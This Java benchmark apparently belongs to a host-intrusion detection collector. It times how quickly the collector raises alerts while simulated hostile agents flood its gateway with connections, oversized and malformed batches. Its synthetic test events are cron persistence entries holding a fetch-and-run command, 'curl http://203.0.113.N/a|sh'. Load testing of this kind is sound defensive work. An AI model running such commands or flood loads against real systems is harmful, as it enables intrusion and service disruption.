package bzh.vigie.collector.gateway;

import bzh.vigie.collector.IngestFeed;
import bzh.vigie.collector.detect.Detectors;
import bzh.vigie.collector.detect.Pipeline;
import bzh.vigie.collector.detect.Quarantine;
import bzh.vigie.collector.detect.ShippedRules;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.finding.Ruling;
import bzh.vigie.collector.detect.sigma.CompiledRules;
import bzh.vigie.collector.detect.sigma.RuleSet;
import bzh.vigie.collector.store.EventHistory;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.lucene.LuceneHistory;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.ItemSeen;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.Moment;
import bzh.vigie.v1.EventBatch;
import bzh.vigie.v1.Hello;
import bzh.vigie.v1.LanePosition;
import bzh.vigie.wire.EventCodec;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;
import java.util.stream.IntStream;

/**
 * Time from a batch of one host to its alert, over connection, ingest log, detection and store, while nobody floods and while another host of its commune is
 * at its worst in each resource, and in all at once. Medians, and their ratio to the quiet one.
 */
final class FloodFigures extends GatewayBench {
    private static final int ROUNDS = 21;

    private int victims;
    private int agents;

    /** What a hostile agent does again and again. */
    private interface Attack {
        void turn(Enrolled agent, int turn) throws IOException;
    }

    private Event seen(String name, String value, Item.Trait... traits) {
        Item item = new Item(
                "linux.cron.system",
                List.of("T1053.003"),
                "linux",
                Optional.empty(),
                name,
                value,
                "/etc/cron.d/" + name,
                "",
                Optional.empty(),
                "",
                Item.Signature.NOT_CHECKED,
                "",
                Item.Shipped.UNOWNED,
                true,
                ItemTimes.NONE,
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of(traits));
        return new ItemSeen(
                new Moment(clock.instant(), "boot-1", 1), "linux.persistence", Change.ADDED, item, Optional.empty(), 1);
    }

    private byte[] items(int turn, int count, int length) {
        return EventCodec.encode(IntStream.range(0, count)
                .mapToObj(i -> seen("flood-" + turn + "-" + i, "/opt/" + "x".repeat(length)))
                .toList());
    }

    private void connections(Enrolled agent, int turn) throws IOException {
        List<TestClient> all = new ArrayList<>();
        try {
            for (int i = 0; i < 8; i++) {
                all.add(connect(agent));
            }
        } finally {
            for (TestClient each : all) {
                each.close();
            }
        }
    }

    private void bytesInFlight(Enrolled agent, int turn) throws IOException {
        byte[] part = ByteBuffer.allocate(900_000).putInt(1 << 20).array();
        try (TestClient one = open(agent, 2 * turn);
                TestClient two = open(agent, 2 * turn + 1)) {
            one.raw(part);
            two.raw(part);
            Thread.onSpinWait();
        }
    }

    private void largeItems(Enrolled agent, int turn) throws IOException {
        send(agent, turn, items(turn, 250, 30_000));
    }

    private void manyItems(Enrolled agent, int turn) throws IOException {
        send(agent, turn, items(turn, 1_000, 20));
    }

    private void inflated(Enrolled agent, int turn) throws IOException {
        send(agent, turn, new byte[8 << 20]);
    }

    private void foreignWord(Enrolled agent, int turn) throws IOException {
        EventBatch.Builder foreign =
                EventBatch.parseFrom(EventCodec.encode(List.of(seen("foreign", "/opt/x")))).toBuilder();
        foreign.getEventsBuilder(0).getItemSeenBuilder().getItemBuilder().setShipped("A".repeat(7_000_000));
        send(agent, turn, foreign.build().toByteArray());
    }

    private void lanes(Enrolled agent, int turn) throws IOException {
        Hello.Builder hello = hello(agent, turn);
        for (int i = 0; i < 32; i++) {
            hello.addReleased(LanePosition.newBuilder()
                    .setEpoch(run(1_000 + 32 * turn + i))
                    .setLane(1)
                    .setNumber(9));
        }
        try (TestClient client = connect(agent)) {
            client.send(hello);
            client.welcome();
        }
    }

    private void send(Enrolled agent, int turn, byte[] content) throws IOException {
        try (TestClient client = open(agent, turn)) {
            for (int i = 0; i < 4; i++) {
                client.send(batch(4L * turn + i + 1, content));
                client.acknowledged();
            }
        }
    }

    private long alerts(Enrolled victim) {
        return store.read(session -> session.alerts().after(new Scope.All(), 0, 10_000)).stream()
                .filter(each -> each.alert().host().equals(victim.id()))
                .count();
    }

    /** Milliseconds from a batch of the victim to its alert, some times. */
    private List<Double> waits() throws IOException, InterruptedException {
        Enrolled victim = enrolled("mairie-" + ++victims);
        List<Double> millis = new ArrayList<>();
        try (TestClient client = open(victim, 1)) {
            for (int round = 1; round <= ROUNDS; round++) {
                byte[] content = EventCodec.encode(List.of(seen(
                        "victim-" + victims + "-" + round,
                        "curl http://203.0.113." + round + "/a|sh",
                        Item.Trait.NETWORK_TOOL,
                        Item.Trait.INLINE_SCRIPT)));
                long before = alerts(victim);
                long begun = System.nanoTime();
                client.send(batch(round, content));
                client.acknowledged();
                while (alerts(victim) == before) {
                    Thread.sleep(1);
                }
                millis.add((System.nanoTime() - begun) / 1e6);
                Thread.sleep(50);
            }
        }
        return millis;
    }

    private List<Double> waitsDuring(List<Attack> attacks) throws IOException, InterruptedException {
        Enrolled hostile = enrolled("hostile-" + ++agents);
        AtomicInteger turns = new AtomicInteger();
        LongAdder sentAway = new LongAdder();
        List<Thread> floods = attacks.stream()
                .map(attack -> Thread.ofPlatform().start(() -> {
                    while (!Thread.currentThread().isInterrupted()) {
                        try {
                            attack.turn(hostile, turns.incrementAndGet());
                        } catch (IOException | AssertionError e) {
                            sentAway.increment();
                        }
                    }
                }))
                .toList();
        try {
            while (turns.get() < 2 * attacks.size()) {
                Thread.sleep(1);
            }
            return waits();
        } finally {
            for (Thread each : floods) {
                each.interrupt();
                each.join();
            }
        }
    }

    private static double tell(String what, List<Double> millis, double quiet) {
        List<Double> sorted = millis.stream().sorted().toList();
        double median = sorted.get(sorted.size() / 2);
        System.out.printf(
                Locale.ROOT,
                "%-16s median %8.1f ms   worst %8.1f ms   ratio of medians %6.1f%n",
                what,
                median,
                sorted.getLast(),
                median / quiet);
        return median;
    }

    private void measure() throws IOException, InterruptedException {
        RuleSet rules = ShippedRules.load();
        Ruling ruling = new Ruling(new CompiledRules(rules.rules()), rules.correlations(), rules.onlyCorrelated());
        Cards cards = new Cards(rules.detectors());
        try (EventHistory history = LuceneHistory.open(dir.resolve("history"), 16)) {
            Pipeline pipeline = new Pipeline(
                    new IngestFeed(log),
                    store,
                    history,
                    () -> ruling,
                    cards,
                    Detectors.all(() -> ruling, cards, Duration.ofHours(1), host -> {}),
                    new Quarantine(dir.resolve("quarantine")),
                    shares,
                    ManagementFactory.getThreadMXBean()::getCurrentThreadCpuTime,
                    clock);
            Thread detection = Thread.ofPlatform().start(() -> {
                try {
                    pipeline.run();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            waits();
            double quiet = tell("quiet", waits(), Double.NaN);
            tell("connections", waitsDuring(List.of(this::connections)), quiet);
            tell("bytes-in-flight", waitsDuring(List.of(this::bytesInFlight)), quiet);
            tell("hellos, lanes", waitsDuring(List.of(this::lanes)), quiet);
            tell("inflated-bytes", waitsDuring(List.of(this::inflated)), quiet);
            tell("foreign words", waitsDuring(List.of(this::foreignWord)), quiet);
            tell("many items", waitsDuring(List.of(this::manyItems)), quiet);
            tell("large items", waitsDuring(List.of(this::largeItems)), quiet);
            tell(
                    "all at once",
                    waitsDuring(List.of(
                            this::connections,
                            this::bytesInFlight,
                            this::lanes,
                            this::inflated,
                            this::foreignWord,
                            this::manyItems,
                            this::largeItems)),
                    quiet);
            tell("quiet again", waits(), quiet);
            pipeline.close();
            detection.join();
        }
    }

    public static void main(String[] arguments) throws IOException, InterruptedException {
        FloodFigures figures = new FloodFigures();
        figures.dir = Files.createTempDirectory("floods");
        figures.open();
        try {
            figures.measure();
        } finally {
            figures.close();
        }
    }
}
